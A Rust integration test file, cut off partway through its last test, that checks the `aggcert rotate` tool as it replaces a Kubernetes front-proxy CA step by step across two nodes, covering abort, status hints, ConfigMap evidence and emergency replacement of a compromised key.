//! `aggcert rotate`: a CA is replaced, step by step, and each step can be repeated and taken back.

use std::fs;
use std::io::{self, BufRead, BufReader};
use std::process::{Output, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};

use aggcert::pki::contents::certificates;
use aggcert::pki::store::{Steps, Unhindered};
use aggcert::pki::{PkiFile, Store};

use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, KeyPair};

use super::directory::{Directory, failed, succeeded};

/// Two nodes of one cluster: the same CA, a client each.
struct Nodes(Directory);

impl Nodes {
    fn new() -> Self {
        let directory = Directory::new();
        succeeded(&directory.command().args(["init", "a"]).output().unwrap());
        fs::create_dir(directory.outside("b")).unwrap();
        for name in ["front-proxy-ca.crt", "front-proxy-ca.key"] {
            fs::copy(directory.outside("a").join(name), directory.outside("b").join(name)).unwrap();
        }
        succeeded(&directory.command().args(["init", "b"]).output().unwrap());
        Self(directory)
    }

    /// Both trust a new CA beside the old one.
    fn trusting() -> Self {
        let nodes = Self::new();
        succeeded(&nodes.run("start", &[]));
        nodes
    }

    /// And show clients of it.
    fn switched() -> Self {
        let nodes = Self::trusting();
        nodes.switch_all();
        nodes
    }

    fn switch_all(&self) {
        succeeded(&self.run("next", &[trusted(), &["--all"]].concat()));
    }

    fn run(&self, action: &str, arguments: &[&str]) -> Output {
        self.0.command().args(["rotate", action, "a", "b"]).args(arguments).output().unwrap()
    }

    fn phase(&self) -> String {
        let output = self.run("status", &["--format", "json"]);
        let document: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        document["phase"].as_str().unwrap_or("illegal").to_owned()
    }

    /// The four files of both nodes.
    fn served(&self) -> Vec<Vec<u8>> {
        ["a", "b"].into_iter().flat_map(|node| self.served_by(node)).collect()
    }

    fn served_by(&self, node: &str) -> [Vec<u8>; 4] {
        PkiFile::SERVED.map(|file| fs::read(self.0.outside(node).join(file.name())).unwrap())
    }

    /// Puts back what a node served.
    fn put(&self, node: &str, served: &[Vec<u8>; 4]) {
        for (file, bytes) in PkiFile::SERVED.iter().zip(served) {
            fs::write(self.0.outside(node).join(file.name()), bytes).unwrap();
        }
    }

    /// How many CAs are in the bundle, and whether the first signed the client.
    fn bundle(&self, node: &str) -> (usize, bool) {
        let read = |name: &str| certificates(&fs::read(self.0.outside(node).join(name)).unwrap()).unwrap();
        let (bundle, client) = (read("front-proxy-ca.crt"), read("front-proxy-client.crt"));
        (bundle.len(), client[0].is_signed_by(&bundle[0]))
    }

    fn read(&self, name: &str) -> String {
        fs::read_to_string(self.0.outside(name)).unwrap()
    }

    /// A dump of the ConfigMap with these CAs.
    fn publish(&self, name: &str, bundle: &str) -> String {
        let indented = bundle.lines().map(|line| format!("    {line}\n")).collect::<String>();
        let config_map = format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: extension-apiserver-authentication\n  \
             namespace: kube-system\ndata:\n  requestheader-client-ca-file: |\n{indented}"
        );
        fs::write(self.0.outside(name), &config_map).unwrap();
        config_map
    }

    /// One more CA in the bundle of each node.
    fn add_ca(&self, ca: &str) {
        for node in ["a", "b"] {
            let path = self.0.outside(node).join("front-proxy-ca.crt");
            fs::write(&path, fs::read_to_string(&path).unwrap() + ca).unwrap();
        }
    }

    /// The CAs of a bundle.
    fn cas(&self, name: &str) -> Vec<String> {
        self.read(name).split_inclusive("-----END CERTIFICATE-----\n").map(str::to_owned).collect()
    }

    /// Nothing is left of a rotation, and nothing is to be done.
    fn assert_at_rest(&self) {
        assert_eq!(self.phase(), "still");
        for node in ["a", "b"] {
            assert_eq!(fs::read_dir(self.0.outside(node)).unwrap().count(), 4, "something is left in {node}");
            let output = self.0.command().args(["init", node]).output().unwrap();
            assert!(succeeded(&output).starts_with("Nothing to do"));
        }
    }

    /// Every phase is legal for `check`: two CAs in an overlap are no finding.
    fn assert_checks(&self) {
        for inputs in [&["a"][..], &["b"], &["a", "b"]] {
            let output = self.0.command().arg("check").args(inputs).output().unwrap();
            let text = String::from_utf8_lossy(&output.stdout).into_owned();
            assert!(output.status.success(), "{inputs:?}: {text}");
            assert!(!text.contains("error[") && !text.contains("warning["), "{inputs:?}: {text}");
        }
    }
}

/// All that can be vouched for.
const ALL: [&str; 12] = [
    "--assume",
    "a",
    "--assume",
    "b",
    "--assume",
    "config-map",
    "--assume",
    "extension-servers",
    "--assume",
    "switched:a",
    "--assume",
    "switched:b",
];

/// That the new CA is trusted everywhere, and no more.
fn trusted() -> &'static [&'static str] {
    &ALL[..8]
}

/// Somebody else's old CA may begin after the one that was made of it.
#[test]
fn a_new_ca_that_looks_older_is_taken_back_by_what_is_printed() {
    let nodes = Nodes::new();
    let renew = |node: &str| {
        let key = format!("{node}/front-proxy-ca.key");
        let arguments =
            ["req", "-x509", "-key", &key, "-subj", "/CN=front-proxy-ca", "-days", "365", "-set_serial", "7"];
        succeeded(&nodes.0.openssl(&arguments))
    };
    succeeded(&nodes.run("start", &[]));
    let later = renew("a");
    for node in ["a", "b"] {
        let bundle = nodes.0.outside(node).join("front-proxy-ca.crt");
        let text = fs::read_to_string(&bundle).unwrap();
        let new = text.rfind("-----BEGIN CERTIFICATE-----").unwrap();
        fs::write(bundle, format!("{later}{}", &text[new..])).unwrap();
    }
    let refused = nodes.run("next", &[]);
    assert!(!refused.status.success());
    let said = String::from_utf8(refused.stderr).unwrap();
    let command = said.lines().find_map(|line| line.strip_prefix("help: mv ")).unwrap_or_else(|| panic!("{said}"));
    let mut shell = std::process::Command::new("sh");
    succeeded(&shell.args(["-c", &format!("mv {command}")]).current_dir(nodes.0.outside("")).output().unwrap());
    assert_eq!(nodes.phase(), "still");
    succeeded(&nodes.run("start", &[]));
}

#[test]
fn a_rotation_goes_from_one_ca_to_another_by_the_steps() {
    let nodes = Nodes::new();
    let ca = |node: &str| {
        certificates(&fs::read(nodes.0.outside(node).join("front-proxy-ca.crt")).unwrap()).unwrap().remove(0)
    };
    let old = ca("a");
    assert_eq!(nodes.phase(), "still");
    let plan = succeeded(&nodes.run("plan", &[]));
    assert!(plan.contains("3 distrust") && plan.contains("aggcert rotate start a b"), "{plan}");

    succeeded(&nodes.run("start", &[]));
    assert_eq!((nodes.phase().as_str(), nodes.bundle("a"), nodes.bundle("b")), ("switch", (2, true), (2, true)));
    nodes.assert_checks();
    let before = nodes.served();
    let text = succeeded(&nodes.run("start", &[]));
    assert_eq!(nodes.served(), before, "a start that is done changes nothing");
    let copy = "    scp b/front-proxy-ca.crt b/front-proxy-client.crt b/front-proxy-client.key root@NODE:";
    assert!(text.contains(copy), "the run before was perhaps interrupted, and no server needs the CA's key: {text}");

    switch_node_by_node(&nodes);

    let error = failed(&nodes.run("next", trusted()));
    assert!(error.contains("has arrived at: switched:a, switched:b\n"), "{error}");
    let text = succeeded(&nodes.run("next", &ALL));
    assert!(text.contains("step 4 of 5, clean: what the ConfigMap holds was not shown"), "{text}");
    assert!(text.contains("| kubectl replace -f -\n"), "{text}");
    assert!(text.ends_with("    aggcert rotate next a b --config-map cm.yaml\n"), "{text}");
    assert_eq!((nodes.phase().as_str(), nodes.bundle("a")), ("finish", (1, true)));
    nodes.assert_checks();
    assert_ne!(ca("b").subject, old.subject, "hints could not tell the two apart");

    let error = failed(&nodes.run("next", &ALL));
    assert!(error.contains("kubectl replace -f -") && error.contains("--assume cleaned:config-map"), "{error}");
    let text = succeeded(&nodes.run("next", &["--assume", "cleaned:config-map"]));
    assert!(!text.contains("rotate start"), "who has come to the end is not to begin again: {text}");
    nodes.assert_at_rest();
}

/// The second step, with a word for each of both nodes.
fn switch_node_by_node(nodes: &Nodes) {
    let error = failed(&nodes.run("next", &["--assume", "a"]));
    assert!(error.contains("has arrived at: b, config-map, extension-servers\n"), "{error}");
    let text = succeeded(&nodes.run("next", trusted()));
    assert!(text.contains("Assumed, not seen: a, b, config-map, extension-servers"), "{text}");
    let next = "    aggcert rotate next a b --assume a --assume b --assume config-map --assume extension-servers \
                --assume switched:a\n";
    assert!(text.ends_with(next), "{text}");
    assert_eq!(nodes.phase(), "switch");
    nodes.assert_checks();
    let error = failed(&nodes.run("next", trusted()));
    assert!(error.contains("has arrived at: switched:a\n"), "a command that is repeated takes no other step: {error}");
    let error = failed(&nodes.run("next", &ALL));
    assert!(error.contains("--assume switched:b: that directory still holds a client of the old CA\n"), "{error}");
    succeeded(&nodes.run("next", &ALL[..10]));
    assert_eq!((nodes.phase().as_str(), nodes.bundle("a"), nodes.bundle("b")), ("distrust", (2, true), (2, true)));
    nodes.assert_checks();
}

#[test]
fn the_first_two_steps_can_be_taken_back() {
    let nodes = Nodes::new();
    let before = nodes.served();
    succeeded(&nodes.run("start", &[]));
    let trusting = nodes.served();
    let new_ca = || {
        let bundle = fs::read(nodes.0.outside("a/front-proxy-ca.crt")).unwrap();
        certificates(&bundle).unwrap()[1].subject.to_string()
    };
    let aborted = new_ca();
    let at_once = [trusted(), &["--all"]].concat();
    for arguments in [trusted(), &at_once] {
        succeeded(&nodes.run("next", arguments));
        assert_ne!(nodes.served(), trusting);
        let error = failed(&nodes.run("abort", &[]));
        assert!(error.contains("the way back is open at: a, b, config-map, extension-servers"), "{error}");
        succeeded(&nodes.run("abort", arguments));
        assert_eq!(nodes.served(), trusting);
        assert_eq!(nodes.phase(), "switch");
    }
    let error = failed(&nodes.run("abort", trusted()));
    assert!(error.contains("the way back is open at: switched-back:a, switched-back:b\n"), "{error}");
    succeeded(&nodes.run("abort", &["--assume", "switched-back:a/", "--assume", "switched-back:b//"]));
    assert_eq!(nodes.served(), before);
    assert!(!nodes.0.outside("a/front-proxy-client.next.key").exists());
    let error = failed(&nodes.run("abort", &[]));
    assert!(error.contains("there is nothing to take back"), "{error}");
    // Servers may still trust the one that was aborted, and are asked by name.
    succeeded(&nodes.run("start", &[]));
    assert_ne!(new_ca(), aborted);
    // The third cannot be taken back.
    succeeded(&nodes.run("next", &at_once));
    succeeded(&nodes.run("next", &ALL));
    failed(&nodes.run("abort", &[]));
}

#[test]
fn a_start_that_reached_one_node_goes_on_with_the_same_ca() {
    let nodes = Nodes::new();
    succeeded(&nodes.0.command().args(["rotate", "start", "a"]).output().unwrap());
    assert_eq!(nodes.phase(), "trust");
    let error = failed(&nodes.run("next", &ALL));
    assert!(error.contains("the new CA is not on b yet"), "{error}");
    let bundle = |node: &str| fs::read(nodes.0.outside(node).join("front-proxy-ca.crt")).unwrap();
    let made = bundle("a");
    succeeded(&nodes.run("start", &[]));
    assert_eq!([bundle("a"), bundle("b")], [made.clone(), made]);
}

#[test]
fn what_must_not_be_is_told_with_its_command() {
    let nodes = Nodes::trusting();
    let bundle = nodes.0.outside("b/front-proxy-ca.crt");
    let text = fs::read_to_string(&bundle).unwrap();
    let first_ends = text.find("-----END CERTIFICATE-----\n").unwrap() + "-----END CERTIFICATE-----\n".len();
    let (old, new) = text.split_at(first_ends);
    // New first while the old key signs: kubeadm would take the wrong one.
    fs::write(&bundle, [new, old].concat()).unwrap();
    let output = nodes.run("status", &[]);
    assert_eq!(output.status.code(), Some(1));
    let said = String::from_utf8(output.stdout).unwrap();
    assert!(said.contains("kubeadm takes the first") && said.contains("aggcert rotate next a b"), "{said}");
    succeeded(&nodes.run("next", &[]));
    assert_eq!(fs::read_to_string(&bundle).unwrap(), text);
    // The new CA is gone from one node while another shows its client.
    succeeded(&nodes.run("next", trusted()));
    fs::write(&bundle, old).unwrap();
    let said = String::from_utf8(nodes.run("status", &[]).stdout).unwrap();
    assert!(said.contains("b does not trust yet") && said.contains("aggcert rotate start a b"), "{said}");
    succeeded(&nodes.run("start", &[]));
    assert_eq!(nodes.phase(), "switch");
}

#[test]
fn dumps_are_evidence() {
    let nodes = Nodes::new();
    succeeded(&nodes.run("start", &["--ca-common-name", "new-ca"]));
    let config_map = nodes.publish("cm.yaml", &nodes.read("a/front-proxy-ca.crt"));
    // Nobody reads another ConfigMap.
    fs::write(nodes.0.outside("other.yaml"), config_map.replace("kube-system", "default")).unwrap();
    let error = failed(&nodes.run("next", &["--config-map", "other.yaml"]));
    assert!(error.contains("holds no kube-system/extension-apiserver-authentication with a"), "{error}");
    let names = |names: &str| format!("Acceptable client certificate CA names\n{names}Peer signing digest: SHA256\n");
    fs::write(nodes.0.outside("both.txt"), names("CN = front-proxy-ca\nCN = new-ca\n")).unwrap();
    fs::write(nodes.0.outside("old.txt"), names("CN = front-proxy-ca\n")).unwrap();
    let all = ["--config-map", "cm.yaml", "--accepts", "a=both.txt", "--accepts", "b=both.txt"];
    let error = failed(&nodes.run("next", &[&all[..], &["--accepts", "metrics-server=old.txt"]].concat()));
    assert!(error.contains("has arrived at: metrics-server, extension-servers\n"), "{error}");
    // One server says nothing of others, whatever it is called.
    let shown = [&all[..], &["--accepts", "metrics-server=both.txt"]].concat();
    let error = failed(&nodes.run("next", &shown));
    assert!(error.contains("extension-servers (metrics-server: vouch for it when there is no other)\n"), "{error}");
    succeeded(&nodes.run("next", &[&shown[..], &["--assume", "extension-servers"]].concat()));
    // A server that does not accept a client that is in use.
    let output = nodes.run("status", &["--accepts", "metrics-server=old.txt"]);
    let said = String::from_utf8(output.stdout).unwrap();
    assert!(said.contains("which metrics-server does not accept"), "{said}");
    assert!(said.contains("aggcert rotate abort a b"), "{said}");
}

#[test]
fn a_stolen_key_is_replaced_at_once() {
    let nodes = Nodes::new();
    let error = failed(&nodes.run("start", &["--compromised"]));
    assert!(error.contains("answer 401") && error.contains("--accept-outage"), "{error}");
    succeeded(&nodes.run("start", &["--compromised", "--accept-outage"]));
    assert_eq!((nodes.bundle("a"), nodes.bundle("b")), ((1, true), (1, true)));
    assert_eq!(nodes.phase(), "finish");
    let same = ["a", "b"].map(|node| fs::read(nodes.0.outside(node).join("front-proxy-ca.crt")).unwrap());
    assert_eq!(same[0], same[1]);
}

/// The key of the CA under way lay beside the stolen one.
#[test]
fn a_key_that_was_stolen_in_mid_rotation_takes_the_ca_under_way_with_it() {
    for switches in [0, 1] {
        let nodes = Nodes::new();
        succeeded(&nodes.run("start", &[]));
        for _ in 0..switches {
            succeeded(&nodes.run("next", trusted()));
        }
        let known = nodes.cas("a/front-proxy-ca.crt");
        succeeded(&nodes.run("start", &["--compromised", "--accept-outage"]));
        let third = nodes.cas("a/front-proxy-ca.crt");
        assert!(third.len() == 1 && !known.contains(&third[0]), "neither of the two is trusted any more");
        assert_eq!(nodes.cas("b/front-proxy-ca.crt"), third);
        assert_eq!(nodes.bundle("b"), (1, true));
    }
}

/// The disk of the second node was full: each of the three CAs is in use.
#[test]
fn a_replacement_of_both_cas_that_was_interrupted_is_gone_on_with() {
    let nodes = Nodes::new();
    succeeded(&nodes.run("start", &[]));
    let at_once = ["--compromised", "--accept-outage"];
    succeeded(&nodes.0.command().args(["rotate", "start", "a"]).args(at_once).output().unwrap());
    let said = String::from_utf8(nodes.run("status", &[]).stdout).unwrap();
    assert!(
        said.contains("3 CAs are in the bundles") && said.ends_with("    aggcert rotate start a b --at-once\n"),
        "{said}"
    );
    succeeded(&nodes.run("start", &at_once));
    assert_eq!((nodes.phase().as_str(), nodes.bundle("a"), nodes.bundle("b")), ("finish", (1, true), (1, true)));
}

/// Standard input, and what a shell puts in the place of `<(…)`.
#[test]
fn a_dump_may_come_through_a_pipe() {
    let nodes = Nodes::new();
    succeeded(&nodes.run("start", &[]));
    nodes.publish("cm.yaml", &nodes.read("a/front-proxy-ca.crt"));
    for name in ["-", "/dev/stdin"] {
        let mut command = nodes.0.command();
        command.args(["rotate", "status", "a", "b", "--config-map", name]);
        let output = command.stdin(fs::File::open(nodes.0.outside("cm.yaml")).unwrap()).output().unwrap();
        let said = succeeded(&output);
        assert!(said.contains("has arrived at: a, b, extension-servers\n"), "{said}");
        assert!(said.contains("rotate next a b --config-map cm.yaml --assume a"), "a pipe is read once: {said}");
    }
}

/// What a dump showed before says nothing of after.
#[test]
fn a_replacement_at_once_is_not_held_against_what_was_shown_before() {
    let nodes = Nodes::new();
    nodes.publish("cm.yaml", &nodes.read("a/front-proxy-ca.crt"));
    let said = succeeded(&nodes.run("start", &["--compromised", "--accept-outage", "--config-map", "cm.yaml"]));
    assert!(said.contains("what the ConfigMap holds was not shown"), "{said}");
}

/// A shell's last command is one key away, and each CA is another outage.
#[test]
fn a_replacement_at_once_is_not_done_twice_unasked() {
    let nodes = Nodes::new();
    let at_once = ["--compromised", "--accept-outage"];
    // Another run was interrupted before the second node.
    succeeded(&nodes.0.command().args(["rotate", "start", "a"]).args(at_once).output().unwrap());
    succeeded(&nodes.run("start", &at_once));
    let done = nodes.served();
    let error = failed(&nodes.run("start", &at_once));
    assert!(
        error.contains(", has taken the place of CN=front-proxy-ca in all directories")
            && error.contains("give --again"),
        "{error}"
    );
    assert_eq!(nodes.served(), done);
    succeeded(&nodes.run("start", &[&at_once[..], &["--again"]].concat()));
    assert_ne!(nodes.served(), done);
}

/// Both CAs of a rotation that stood still for years, or was begun with a short `--ca-validity`.
#[test]
fn two_cas_that_have_both_ended_are_replaced_at_once() {
    let nodes = Nodes::new();
    let key = rcgen::KeyPair::from_pem(&nodes.read("a/front-proxy-ca.key")).unwrap();
    let now = time::OffsetDateTime::now_utc();
    let ended = |name: &str, begins: i64| {
        let mut params = rcgen::CertificateParams::default();
        params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        params.distinguished_name = rcgen::DistinguishedName::new();
        params.distinguished_name.push(rcgen::DnType::CommonName, name);
        (params.not_before, params.not_after) = (now - time::Duration::days(begins), now - time::Duration::days(1));
        params.self_signed(&key).unwrap().pem()
    };
    let bundle = ended("front-proxy-ca", 9) + &ended("front-proxy-ca-2", 8);
    for node in ["a", "b"] {
        fs::write(nodes.0.outside(node).join("front-proxy-ca.crt"), &bundle).unwrap();
        let key = nodes.0.outside(node).join("front-proxy-ca.key");
        fs::copy(key, nodes.0.outside(node).join("front-proxy-ca.next.key")).unwrap();
    }
    reissue(&nodes, &["front-proxy-client"], now - time::Duration::days(1));
    let command = "aggcert rotate start a b --at-once --accept-outage";
    let status = nodes.run("status", &[]);
    let said = String::from_utf8(status.stdout).unwrap();
    assert!(said.contains(command), "{said}");
    let error = failed(&nodes.run("start", &[]));
    assert!(error.contains("ended on") && error.contains(command), "{error}");
    succeeded(&nodes.run("start", &["--at-once", "--accept-outage"]));
    assert_eq!(nodes.bundle("a"), (1, true));
}

/// Puts clients with another end in the place of those that are there in step 1, each of the same CA.
fn reissue(nodes: &Nodes, names: &[&str], not_after: time::OffsetDateTime) {
    let cas = nodes.cas("a/front-proxy-ca.crt");
    let mut params = rcgen::CertificateParams::default();
    params.distinguished_name = rcgen::DistinguishedName::new();
    params.distinguished_name.push(rcgen::DnType::CommonName, "front-proxy-client");
    params.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ClientAuth];
    (params.not_before, params.not_after) = (not_after - time::Duration::days(9), not_after);
    for name in names {
        let (ca, key) =
            if name.ends_with("next") { (&cas[1], "front-proxy-ca.next") } else { (&cas[0], "front-proxy-ca") };
        let key = rcgen::KeyPair::from_pem(&nodes.read(&format!("a/{key}.key"))).unwrap();
        let issuer = rcgen::Issuer::from_ca_cert_pem(ca, key).unwrap();
        for node in ["a", "b"] {
            let key = rcgen::KeyPair::from_pem(&nodes.read(&format!("{node}/{name}.key"))).unwrap();
            let client = params.signed_by(&key, &issuer).unwrap();
            fs::write(nodes.0.outside(&format!("{node}/{name}.crt")), client.pem()).unwrap();
        }
    }
}

/// A rotation that stood still must not put a client that ends in hours in the place of one that has a year.
#[test]
fn a_client_that_ends_sooner_than_the_one_in_use_does_not_take_over() {
    let nodes = Nodes::trusting();
    let now = time::OffsetDateTime::now_utc();
    reissue(&nodes, &["front-proxy-client.next"], now + time::Duration::hours(3));
    let error = failed(&nodes.run("next", trusted()));
    assert!(error.contains("it is due and ends before the client that is in use"), "{error}");
    succeeded(&nodes.run("start", &[]));
    succeeded(&nodes.run("next", trusted()));
    let client = nodes.0.outside("a/front-proxy-client.crt");
    let client = certificates(&fs::read(client).unwrap()).unwrap().remove(0);
    assert!(client.not_after > now + time::Duration::days(300), "{}", client.not_after);
    // In an outage hours are better than nothing.
    let nodes = Nodes::trusting();
    reissue(&nodes, &["front-proxy-client"], now - time::Duration::days(2));
    reissue(&nodes, &["front-proxy-client.next"], now + time::Duration::hours(3));
    succeeded(&nodes.run("next", trusted()));
}

/// A rotation that took longer than the old client lived must not be a trap.
#[test]
fn a_client_that_ended_meanwhile_does_not_end_the_rotation() {
    let nodes = Nodes::trusting();
    let now = time::OffsetDateTime::now_utc();
    reissue(&nodes, &["front-proxy-client", "front-proxy-client.next"], now - time::Duration::days(2));
    let status = nodes.run("status", &[]);
    assert_eq!(status.status.code(), Some(1));
    let said = String::from_utf8(status.stdout).unwrap();
    for node in ["a", "b"] {
        assert!(said.contains(&format!("{node}: front-proxy-client.crt: it expired on ")), "{said}");
        assert!(said.contains(&format!("{node}: the client of the new CA that lies ready ended on ")), "{said}");
        assert!(said.contains(&format!("    aggcert renew {node}\n")), "{said}");
    }
    assert!(said.contains("    aggcert rotate start a b\n"), "{said}");
    let error = failed(&nodes.run("next", trusted()));
    assert!(error.contains("no usable client of the new CA") && error.contains("`aggcert rotate start`"), "{error}");
    succeeded(&nodes.run("start", &[]));
    succeeded(&nodes.run("next", trusted()));
    let client = nodes.0.outside("a/front-proxy-client.crt");
    let client = certificates(&fs::read(client).unwrap()).unwrap().remove(0);
    assert!(client.not_after > now, "{}", client.not_after);
    // The way out that is named for the other node works in the middle of the rotation, and loses nothing of it.
    succeeded(&nodes.0.command().args(["renew", "b"]).output().unwrap());
    let said = succeeded(&nodes.run("status", &[]));
    assert!(!said.contains(" ended on "), "{said}");
    succeeded(&nodes.run("next", &[trusted(), &["--assume", "switched:a"]].concat()));
    assert_eq!(nodes.phase(), "distrust");
}

#[test]
fn the_last_step_destroys_only_what_was_written_here_and_names_it_before() {
    let nodes = Nodes::new();
    let ours = "a/front-proxy-ca.key.2026-11-21T20-15-03Z";
    let by_hand = ["key.2026-11-26", "key.bak", "key.20240101", "crt.2026-11-21T20:15:03Z"];
    let by_hand = by_hand.map(|end| format!("a/front-proxy-ca.{end}"));
    let old = nodes.read("a/front-proxy-ca.crt");
    succeeded(&nodes.run("start", &["--compromised", "--accept-outage"]));
    let key = nodes.read("b/front-proxy-ca.key");
    for name in by_hand.iter().map(String::as_str).chain([ours]) {
        fs::write(nodes.0.outside(name), &key).unwrap();
    }
    let said = succeeded(&nodes.run("status", &[]));
    assert!(said.contains(&format!("  # - {ours}\n")), "{said}");
    let (_, left) = said.split_once("Left alone").unwrap();
    nodes.publish("both.yaml", &(nodes.read("a/front-proxy-ca.crt") + &old));
    let clean = succeeded(&nodes.run("status", &["--config-map", "both.yaml"]));
    assert!(clean.contains("Step 4 of 5") && !clean.contains("# - "), "no step but the last destroys them: {clean}");
    assert!(
        by_hand.iter().all(|name| left.contains(&format!("\n  {name}\n")) && !said.contains(&format!("- {name}\n")))
    );
    succeeded(&nodes.run("next", &["--assume", "cleaned:config-map"]));
    assert!(!nodes.0.outside(ours).exists());
    assert!(by_hand.iter().all(|name| nodes.read(name) == key));
}

#[test]
fn no_step_is_taken_back_into_an_outage() {
    let nodes = Nodes::switched();
    nodes.publish("new.yaml", &nodes.cas("a/front-proxy-ca.crt")[0]);
    let before = nodes.served();
    let error = failed(&nodes.run("abort", &[&ALL[..], &["--config-map", "new.yaml", "--all"]].concat()));
    assert!(error.contains("which the ConfigMap does not hold") && error.contains("rotate status a b"), "{error}");
    assert_eq!(nodes.served(), before, "nothing is written first");
    // Where the new CA is the one that is refused, all go back at once, whatever else is shown.
    nodes.publish("old.yaml", &nodes.cas("a/front-proxy-ca.crt")[1]);
    let said = String::from_utf8(nodes.run("status", &["--config-map", "old.yaml"]).stdout).unwrap();
    assert!(said.contains("aggcert rotate abort a b --config-map old.yaml\n"), "{said}");
    succeeded(&nodes.run("abort", &["--config-map", "old.yaml"]));
    assert_eq!(nodes.phase(), "switch");
}

/// It says nothing of who trusts the old CA.
#[test]
fn a_bundle_in_the_other_order_shows_no_way_back() {
    let nodes = Nodes::switched();
    let [new, old] = nodes.cas("b/front-proxy-ca.crt").try_into().unwrap();
    fs::write(nodes.0.outside("b/front-proxy-ca.crt"), old + &new).unwrap();
    let before = nodes.served();
    let error = failed(&nodes.run("abort", &[]));
    assert!(error.contains("the way back is open at: a, b, config-map, extension-servers"), "{error}");
    assert_eq!(nodes.served(), before);
}

/// An abort would mend nothing, and throw the new CA away.
#[test]
fn a_config_map_without_the_ca_in_use_is_no_reason_to_go_back() {
    let nodes = Nodes::trusting();
    let before = nodes.served();
    nodes.publish("new.yaml", &nodes.cas("a/front-proxy-ca.crt")[1]);
    let said = String::from_utf8(nodes.run("status", &["--config-map", "new.yaml"]).stdout).unwrap();
    assert!(!said.contains("abort") && said.contains("kube-apiserver writes the CAs of its own"), "{said}");
    failed(&nodes.run("abort", &["--config-map", "new.yaml"]));
    assert_eq!(nodes.served(), before);
}

#[test]
fn a_ca_that_was_replaced_by_mistake_is_put_back() {
    let nodes = Nodes::new();
    let (before, ca) = (nodes.served(), nodes.read("a/front-proxy-ca.crt"));
    nodes.publish("cm.yaml", &ca);
    succeeded(&nodes.run("start", &["--compromised", "--accept-outage"]));
    let made = nodes.read("a/front-proxy-ca.key");
    let said = succeeded(&nodes.run("status", &[]));
    assert!(said.contains("which was replaced at once") && said.contains("rotate abort a b --config-map"), "{said}");
    let said = String::from_utf8(nodes.run("status", &["--config-map", "cm.yaml"]).stdout).unwrap();
    assert!(
        said.contains("which the ConfigMap does not hold")
            && said.contains("aggcert rotate abort a b --config-map cm.yaml\n"),
        "{said}"
    );
    failed(&nodes.run("abort", &[]));
    succeeded(&nodes.run("abort", &["--config-map", "cm.yaml"]));
    assert_eq!(nodes.served(), before);
    let said = succeeded(&nodes.run("status", &[]));
    assert!(!said.contains("replaced by mistake"), "what was put back is what the servers have: {said}");
    let kept = fs::read_dir(nodes.0.outside("a")).unwrap().map(|entry| entry.unwrap().path());
    assert!(kept.into_iter().any(|path| fs::read_to_string(path).unwrap() == made), "no key is lost");
}

/// A CA whose key is elsewhere, so many days old.
fn other_ca(name: &str, days: i64) -> String {
    let mut params = rcgen::CertificateParams::default();
    params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    params.distinguished_name = rcgen::DistinguishedName::new();
    params.distinguished_name.push(rcgen::DnType::CommonName, name);
    params.not_before = time::OffsetDateTime::now_utc() - time::Duration::days(days);
    params.self_signed(&rcgen::KeyPair::generate().unwrap()).unwrap().pem()
}

/// What begins after the nodes' own CA looks like one that a rotation has made.
#[test]
fn a_newer_ca_of_another_is_not_dropped_unasked() {
    let nodes = Nodes::new();
    nodes.add_ca(&other_ca("other", 0));
    let before = nodes.served();
    let status = nodes.run("status", &[]);
    let said = String::from_utf8_lossy(&status.stdout).into_owned();
    assert!(
        status.status.code() == Some(1) && said.contains("no client of the new CA, CN=other, lies ready"),
        "{said}"
    );
    let error = failed(&nodes.run("start", &[]));
    assert!(error.contains("keep it with `aggcert rotate start a b --keep-ca CN=other`"), "{error}");
    let error = failed(&nodes.run("abort", &[]));
    assert!(error.contains("unused:new-ca (neither its key nor a client of it lies here"), "{error}");
    assert_eq!(nodes.served(), before);
    succeeded(&nodes.run("abort", &["--assume", "unused:new-ca"]));
    assert_eq!(nodes.bundle("a"), (1, true));
}

/// The CAs of two other front proxies stay through all steps, in the bundles and the ConfigMap.
#[test]
fn what_others_use_is_kept_through_a_rotation() {
    let nodes = Nodes::new();
    let others = [other_ca("other", 9), other_ca("third", 0)];
    others.iter().for_each(|ca| nodes.add_ca(ca));
    let stays = |node: &str| {
        let cas = nodes.cas(&format!("{node}/front-proxy-ca.crt"));
        assert!(others.iter().all(|ca| cas.contains(ca)), "{cas:?}");
        cas
    };
    let said = String::from_utf8(nodes.run("status", &[]).stdout).unwrap();
    let fix =
        "    aggcert rotate status a b --keep-ca CN=other --keep-ca CN=third    # where another front proxy uses it";
    assert!(said.contains(fix), "{said}");
    let keep = ["--keep-ca", "CN=other", "--keep-ca", "third"];
    let run = |action: &str, arguments: &[&str]| nodes.run(action, &[&keep[..], arguments].concat());
    let started = succeeded(&run("start", &[]));
    assert!(started.contains("Kept, and no part of this: CN=other, CN=third"), "{started}");
    assert!(started.contains("aggcert rotate next a b --keep-ca CN=other --keep-ca third --assume a"), "{started}");
    assert_eq!(stays("a").len(), 4);
    succeeded(&run("next", &[trusted(), &["--all"]].concat()));
    succeeded(&run("next", &ALL));
    let done = stays("b");
    assert_eq!((done.len(), nodes.bundle("b").1), (3, true));
    nodes.publish("cm.yaml", &done.concat());
    succeeded(&run("next", &["--config-map", "cm.yaml"]));
    let status = succeeded(&run("status", &["--config-map", "cm.yaml"]));
    assert!(status.starts_with("No rotation is under way"), "{status}");
    let json: serde_json::Value = serde_json::from_slice(&run("status", &["--format", "json"]).stdout).unwrap();
    assert_eq!((&json["phase"], &json["kept"]), (&"still".into(), &serde_json::json!(["CN=other", "CN=third"])));
    assert_eq!(stays("a").len(), 3);
}

/// As somebody does who works on each node by itself: no client in use is of a new CA, so that nothing need be refused.
#[test]
fn what_was_started_for_each_node_alone_is_taken_back() {
    let nodes = Nodes::new();
    let before = nodes.served_by("b");
    for node in ["a", "b"] {
        succeeded(&nodes.0.command().args(["rotate", "start", node]).output().unwrap());
    }
    let said = String::from_utf8(nodes.run("status", &[]).stdout).unwrap();
    assert!(said.ends_with("  # fix it\n    aggcert rotate abort b\n"), "{said}");
    succeeded(&nodes.0.command().args(["rotate", "abort", "b"]).output().unwrap());
    assert_eq!((nodes.served_by("b"), nodes.phase().as_str()), (before, "trust"));
    succeeded(&nodes.run("start", &[]));
